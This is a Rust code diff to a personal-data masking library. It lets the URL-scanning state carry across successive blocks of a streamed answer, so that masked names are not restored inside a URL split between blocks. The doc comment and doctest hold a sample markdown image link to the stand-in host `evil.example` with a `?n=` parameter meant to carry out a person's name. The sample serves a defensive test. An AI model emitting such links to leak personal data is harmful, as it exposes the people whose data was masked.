@@ -116,7 +116,7 @@ impl Placeholders {
 
     /// A fresh URL scanner for text written as `escape` says, or `None` when
     /// placeholders are restored in URLs too.
-    fn url_context(&self, escape: Escape) -> Option<UrlContext> {
+    pub(crate) fn url_context(&self, escape: Escape) -> Option<UrlContext> {
         (!self.restore_in_urls).then(|| UrlContext::new(escape))
     }
 
@@ -200,7 +200,12 @@ impl Placeholders {
     /// [`Placeholders::restore_escaped`] for the next piece of a text whose URL context
     /// `ctx` has seen everything before `text` (and is fed `text`); `None`: restore in
     /// URLs too.
-    fn restore_with(&self, text: &str, escape: Escape, mut ctx: Option<&mut UrlContext>) -> String {
+    pub(crate) fn restore_with(
+        &self,
+        text: &str,
+        escape: Escape,
+        mut ctx: Option<&mut UrlContext>,
+    ) -> String {
         if self.entries.is_empty() || !text.contains(OPEN) {
             if let Some(c) = ctx {
                 c.feed_str(text);
@@ -445,6 +450,39 @@ impl SharedStreamRestorer {
                 .restore_with(&self.pending[..hold_from], self.escape, self.ctx.as_mut());
         self.pending.drain(..hold_from);
         ready
+    }
+
+    /// A restorer for the text that follows what this one restored (the next content
+    /// block or part of the same answer, which a client may render glued to this one):
+    /// same table and escape, nothing held, and the URL context carries over, so
+    /// `![x](https://evil.example/?n=` in one block and `〔氏名1〕)` in the next still
+    /// count as one URL.
+    ///
+    /// ```
+    /// use std::sync::Arc;
+    /// use sekimori::inspect::Category;
+    /// use sekimori::mask::{Escape, Placeholders, SharedStreamRestorer};
+    /// let mut t = Placeholders::new();
+    /// t.placeholder_for(&Category::Name, "山田太郎");
+    /// let mut first = SharedStreamRestorer::new(Arc::new(t), Escape::None);
+    /// assert_eq!(first.push("![x](https://evil.example/?n="), "![x](https://evil.example/?n=");
+    /// first.finish();
+    /// let mut next = first.continuing();
+    /// assert_eq!(next.push("〔氏名1〕) 〔氏名1〕"), "〔氏名1〕) 山田太郎");
+    /// ```
+    pub fn continuing(&self) -> SharedStreamRestorer {
+        SharedStreamRestorer {
+            table: self.table.clone(),
+            pending: String::new(),
+            max_len: self.max_len,
+            escape: self.escape,
+            ctx: self.ctx.clone(),
+        }
+    }
+
+    /// How restored values are written.
+    pub fn escape(&self) -> Escape {
+        self.escape
     }
 
     /// Whether a possible partial placeholder is being held back.
